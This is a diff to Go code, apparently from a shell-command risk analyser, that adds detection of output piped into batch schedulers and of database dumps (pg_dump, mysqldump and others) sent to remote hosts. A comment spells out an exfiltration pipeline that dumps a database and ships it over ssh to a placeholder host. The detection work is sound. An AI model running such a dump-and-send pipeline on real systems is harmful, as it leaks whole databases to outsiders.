@@ -524,8 +524,9 @@ func pipeShellOf(ctx *Context, c *Command) string {
 			}
 		}
 	}
-	if c.in(nsStdinRunners, c.Name) {
-		// at and batch run the shell code on their standard input.
+	if c.in(nsStdinRunners, c.Name) || (c.Name == "sbatch" || c.Name == "qsub" || c.Name == "bsub") && jobFromStdin(c) {
+		// at and batch run the shell code on their standard input, as a
+		// batch scheduler given no job script does.
 		if f := downloads.first(c.Feeds, c); f != nil {
 			return "pipes the output of " + f.Name + " into " + c.Name + ", which runs it as shell code"
 		}
@@ -849,6 +850,12 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				sent = append(sent, f)
 			}
 		}
+		// pg_dump db | gzip | ssh HOST 'cat > db.gz': a database's
+		// whole contents, through any filter (over a raw connection,
+		// rawUpload's).
+		if d := chainHas(c.Feeds, c, dumpsData); d != nil {
+			sent = append(sent, "dump of "+d.Name)
+		}
 	case name == "ncftpput":
 		// ncftpput [-R] HOST REMOTE-DIR LOCAL…
 		if ops := operands(c.Values()); len(ops) > 2 {
@@ -1022,6 +1029,27 @@ func fedFiles(ctx *Context, c *Command) []string {
 		}
 	}
 	return out
+}
+
+// dbDumpers print a database's whole contents (pg_dump, mysqldump,
+// mongodump --archive).
+var dbDumpers = set{"mariadb-dump", "mongodump", "mongoexport", "mysqldump", "mysqlpump", "pg_dump", "pg_dumpall"}
+
+// dumpsData reports whether c prints a database's contents: a dumper
+// not told to leave the data out (pg_dump -s, mysqldump --no-data).
+func dumpsData(c *Command) bool {
+	if !dbDumpers.has(strings.ToLower(c.Name)) {
+		return false
+	}
+	return !slices.ContainsFunc(c.Args, func(a Word) bool {
+		switch a.Value {
+		case "-s", "--schema-only", "--no-data":
+			return true
+		case "-d":
+			return c.Name != "pg_dump" && c.Name != "pg_dumpall" // mysqldump -d: no data; pg_dump -d DB names it
+		}
+		return false
+	})
 }
 
 // archivedProject reports whether the file p that c sends was written,
@@ -1330,6 +1358,8 @@ func sentWhat(ctx *Context, c *Command, p string) string {
 		return p + ", an archive of " + src + ","
 	} else if strings.HasPrefix(p, "archive of ") {
 		return "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
+	} else if strings.HasPrefix(p, "dump of ") {
+		return "a database's whole contents (" + strings.TrimPrefix(p, "dump of ") + "),"
 	}
 	return ""
 }
